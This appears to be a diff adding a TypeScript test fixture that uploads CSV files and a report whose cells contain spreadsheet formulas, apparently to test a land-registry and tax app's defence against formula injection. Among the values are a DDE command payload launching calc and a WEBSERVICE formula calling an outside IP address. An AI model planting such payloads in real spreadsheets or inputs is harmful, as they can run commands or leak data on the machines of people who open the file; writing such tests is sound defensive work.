@@ -1,0 +1,39 @@
+import { headings, one } from '../server/base-map/lists.ts'
+import { StagedImport } from '../server/base-map/stage.ts'
+import { csv, Listed, person } from '../server/department-data/stage.ts'
+import { jingWei } from '../server/filing/stage.ts'
+import { answer, type TestApp } from '../server/http/test-app.ts'
+
+/** What was typed into the files below, each found in a cell of its own of what we answer about them. */
+export const typedInBase = { area: '=1+1', place: "=cmd|'/c calc'!A1", code: '@SUM(1)' }
+export const typedInList = { code: '=P+99', figure: '-2+3' }
+export const typedInReport = { findings: '=WEBSERVICE("http://192.0.2.1/")', proposals: '+1+1' }
+
+export const taxOffice = person('shuiwu', 'tax')
+
+/** A source of the base map whose values are formulas, compared; the id of the import. */
+export async function baseImportWithFormulas(app: TestApp): Promise<string> {
+  const { area, place, code } = typedInBase
+  const unreadable = [...one.slice(0, 5), area, ...one.slice(6)]
+  const fresh = [code, '新桥镇', place, '', '', 100, '工业用地', '', '']
+  const staged = await StagedImport.upload(app, { kind: 'registry', bytes: csv(headings, unreadable, fresh) })
+  await staged.compare()
+  return staged.id
+}
+
+/** A department's list of codes and figures that are formulas; its id. */
+export async function listWithFormulas(app: TestApp): Promise<string> {
+  const { code, figure } = typedInList
+  const { list } = await Listed.upload(
+    app,
+    taxOffice,
+    csv(['地块编码', '统一社会信用代码', '上缴税金总额（万元）'], [code, '', figure]),
+  )
+  return list.id
+}
+
+/** 机制后评估 of the year, its words formulas; its version. */
+export async function reportWithFormulas(app: TestApp): Promise<string> {
+  await answer(app, jingWei, 'saveMechanismReport', { params: { year: '2026' }, body: { base: 0, ...typedInReport } })
+  return '1'
+}
